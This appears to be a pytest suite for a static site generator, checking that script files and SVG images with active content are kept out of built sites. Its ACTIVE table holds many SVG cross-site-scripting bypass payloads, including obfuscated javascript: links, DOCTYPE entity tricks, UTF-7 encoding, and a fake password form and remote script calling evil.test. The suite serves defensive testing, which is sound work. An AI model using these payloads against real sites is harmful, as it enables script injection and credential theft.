"""Files with scripts are not copied into the site, even if a page links to them."""

import re

import pytest

from onglet import build, run

SITE = "languages: [en]\ntitle: Trial\ncatalogues: []\nrules: {history: off}\n"
PAGE = "# Title\n\n{}\n"
WAYS = ["[a]({0})", "![a]({0})", '<a href="{0}">a</a>', '<img src="{0}" alt="a">', "[a](/{0})"]


SCRIPTS = (
    "a.js a.MJS a.html a.htm a.xhtml a.xht a.shtml a.xml a.svgz a.Rss a.mathml a.owl a.php a.PHP8 a.phtml a.asp a.aspx a.jsp a.cgi a.pl a.shtm"
    " _redirects d/_headers _routes.json web.config netlify.toml vercel.json staticwebapp.config.json CNAME Robots.txt d/CNAME a.php.txt"
).split()


def test_a_script_is_refused_with_its_place(site):
    folder = site({
        "content/site.yml": SITE,
        "content/index.md": "# Title\n\nText.\n",
        **{f"content/page-{number}.md": PAGE.format("\n\n".join(way.format(name) for way in WAYS)) for number, name in enumerate(SCRIPTS)},
        **{f"content/{name}": "<script>alert(1)</script>" for name in SCRIPTS},
    })  # fmt: skip
    result = run("check", "--verbose", folder=folder)
    assert result.status == 1, result
    for page, name in enumerate(SCRIPTS):
        for number, way in enumerate(WAYS):
            place = rf"content/page-{page}\.md:{3 + 2 * number}:.*`{'/' if '(/' in way else ''}{re.escape(name)}` cannot be published"
            assert re.search(place, result.err), f"{name}: {way}\n{result.err}"


def test_a_plain_folder_is_built_without_its_scripts(site):
    folder = site({"content/index.md": PAGE.format("[a](a.js) [b](b.txt)"), "content/a.js": "x", "content/b.txt": "x"})
    result = build(folder)
    assert result.status == 0 and "[file]" in result.err, result
    assert not (folder / "_site/a.js").exists() and (folder / "_site/b.txt").exists()


@pytest.mark.parametrize("name, said", [
    ("a.ipynb", "`.ipynb` files are not published"), ("a.exe", "`.exe` files are not published"),
    ("LICENCE", "has no file extension"),
])  # fmt: skip
def test_only_files_of_usual_kinds_are_published(site, name, said):
    folder = site({"content/site.yml": SITE, "content/index.md": PAGE.format(f"[a]({name})"), f"content/{name}": "x"})
    result = run("check", folder=folder)
    assert result.status == 1 and said in result.err and "content/index.md:3:" in result.err, result


def test_a_site_may_publish_other_files_but_none_that_run(site):
    files = {"content/index.md": PAGE.format("[a](a.ipynb) [b](b.USDX)"), "content/a.ipynb": "x", "content/b.USDX": "x"}
    folder = site({"content/site.yml": SITE + "linked-files: [ipynb, .usdx]\n", **files})
    result = build(folder)
    assert (result.status, result.err) == (0, ""), result
    assert (folder / "_site/a.ipynb").exists() and (folder / "_site/b.USDX").exists()
    folder = site({"content/site.yml": SITE + "linked-files: [ipynb, usdx, php]\n", **files}, "php")
    result = run("check", folder=folder)
    assert result.status == 1 and re.search(r"content/site\.yml:5:29: error: `php` is not allowed in `linked-files`", result.err), result


def svg(inside, attributes="", before="", namespace='xmlns="http://www.w3.org/2000/svg"'):
    return f'{before}<svg {namespace} width="9" height="9" {attributes}>{inside}</svg>'


LINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
ACTIVE = {
    "script": svg("<script>evil()</script>"),
    "prefixed script": svg("<x:script>evil()</x:script>", 'xmlns:x="http://www.w3.org/2000/svg"'),
    "script in HTML": svg('<x:script xmlns:x="http://www.w3.org/1999/xhtml">evil()</x:script>'),
    "script elsewhere": svg('<script href="//evil.test/x"/>'),
    "event": svg("", 'onload="evil()"'),
    "event in a new line": svg("", "onload\n=\n'evil()'"),
    "event behind a quote": svg('<g title="a>b"\tonclick="evil()"/>'),
    "foreign": svg("<foreignObject><p/></foreignObject>"),
    "HTML": svg('<h:img src="x"/>', 'xmlns:h="http://www.w3.org/1999/xhtml"'),
    "HTML by a reference": svg('<h:img src="x"/>', 'xmlns:h="http://www.w3.org/1999/&#120;html"'),
    "link": svg('<a xlink:href="javascript:evil()"><text>x</text></a>', LINK),
    "link with references": svg('<a href="&#x0000006A;ava&#115;cript&#58;evil()"><text>x</text></a>'),
    "link with spaces": svg('<a href=" &#1;java\n\tscript&#10;:evil()"><text>x</text></a>'),
    "link to data": svg('<a href="data:text/html,x"><text>x</text></a>'),
    "used data": svg("<use href='data:image/svg+xml,x#a'/>"),
    "animated link": svg('<a><set attributeName="href" to="javascript:evil()"/></a>'),
    "animated event": svg('<set attributeName="onclick" to="evil()"/>'),
    "comment that only seems to end": svg("<!--> <![CDATA[ --><script>evil()</script><!-- ]]> -->"),
    "comment in an instruction": svg("<script>evil()</script>", before="<?x <!-- ?>"),
    "comment in a type": svg("<script>evil()</script>", before='<!DOCTYPE svg SYSTEM "<!--">'),
    "quote in a type's instruction": svg('<script>evil()</script><g title="x"/>', before='<!DOCTYPE svg [<?x " ?>]>'),
    "quote in a type's comment": svg("<script>evil()</script><g title='x'/>", before="<!DOCTYPE svg [<!-- ' -->]>"),
    "entity of markup": svg("&a;", before='<!DOCTYPE svg [<!ENTITY a "<script>evil()</script>">]>'),
    "entity of references": svg("&a;", before='<!DOCTYPE svg [<!ENTITY a "&#60;script>evil()&#60;/script>">]>'),
    "entity in a link": svg('<a href="&a;script:evil()"/>', before='<!DOCTYPE svg [<!ENTITY a "java">]>'),
    "entity of a namespace": svg('<h:form action="//evil.test/"><h:input type="password"/></h:form>', 'xmlns:h="&a;"', before='<!DOCTYPE svg [<!ENTITY a "http://www.w3.org/1999/xhtml">]>'),
    "entities in a namespace": svg('<h:meta http-equiv="refresh" content="0"/>', 'xmlns:h="&a;&b;"', before='<!DOCTYPE svg [<!ENTITY a "http://www.w3.org/1999/xht"><!ENTITY b "ml">]>'),
    "rest of a namespace": svg('<h:link rel="stylesheet" href="//evil.test/"/>', 'xmlns:h="http://www.w3.org/1999/xht&a;"', before='<!DOCTYPE svg [<!ENTITY a "ml">]>'),
    "attribute by default": svg("", before='<!DOCTYPE svg [<!ATTLIST svg onload CDATA "evil()">]>'),
    "transformation": svg("", before='<?xml-stylesheet type="text/xsl" href="x"?>'),
    "UTF-16": svg("<script>evil()</script>").encode("utf-16"),
    "UTF-7": svg("+ADw-script>", before='<?xml version="1.0" encoding="utf-7"?>'),
}  # fmt: skip
STILL = {
    "plain": svg('<title>On click: javascript is off</title><path d="M0 0"/>'),
    "as editors save it": svg(
        "<style>a { color: red }</style><!-- <script> --><text>one = two, onclick</text><![CDATA[<script>]]>"
        '<image href="data:image/png;base64,AA=="/><a href="https://example.org/?a=b&amp;c"/>&a;',
        'xmlns:i="&a;"',
        before='\ufeff<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- it\'s "made" -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [\n<!ENTITY a "http://example.org/">\n]>\n',
    ),
    "Latin-1": '<?xml version="1.0" encoding="ISO-8859-1"?><svg width="9" height="9"><title>é</title></svg>'.encode("latin-1"),
    "no image": "Text.",
}  # fmt: skip


def images(site, made, name, ways=WAYS[:4]):
    links = "\n\n".join(way.format(f"{number}.svg") for number in range(len(made)) for way in ways)
    return site(
        {"content/site.yml": SITE, "content/index.md": PAGE.format(links)}
        | {f"content/{number}.svg": text for number, text in enumerate(made.values())},
        name,
    )


def test_an_image_that_runs_something_is_refused_with_its_place(site):
    result = run("check", folder=images(site, ACTIVE, "active", ["![a]({0})"]))
    assert result.status == 1, result
    for number, name in enumerate(ACTIVE):
        place = rf"^content/index\.md:{3 + 2 * number}:1: error: `.+` is not allowed in `{number}\.svg` \[file\]$"
        assert re.search(place, result.err, re.MULTILINE), (name, result)
    assert result.err.count("= help: save it as plain SVG") == len(ACTIVE)
    for number, way in enumerate(WAYS):
        folder = site({
            "content/site.yml": SITE, "content/index.md": PAGE.format(way.format("a.SVG")),
            "content/a.SVG": ACTIVE["event"],
        }, f"way-{number}")  # fmt: skip
        result = run("check", folder=folder)
        assert result.status == 1 and "content/index.md:3:" in result.err and "`onload` is not allowed in " in result.err, result


def test_a_plain_folder_is_built_without_images_that_run_something(site):
    folder = images(site, ACTIVE, "active")
    (folder / "content/site.yml").unlink()
    result = build(folder)
    assert result.status == 0, result
    assert not any((folder / f"_site/{number}.svg").exists() for number in range(len(ACTIVE)))


def test_an_image_that_only_shows_something_is_copied(site):
    folder = images(site, STILL, "still")
    result = build(folder)
    assert result.status == 0 and "[file]" not in result.err, result
    for number, name in enumerate(STILL):
        assert (folder / f"_site/{number}.svg").exists(), name
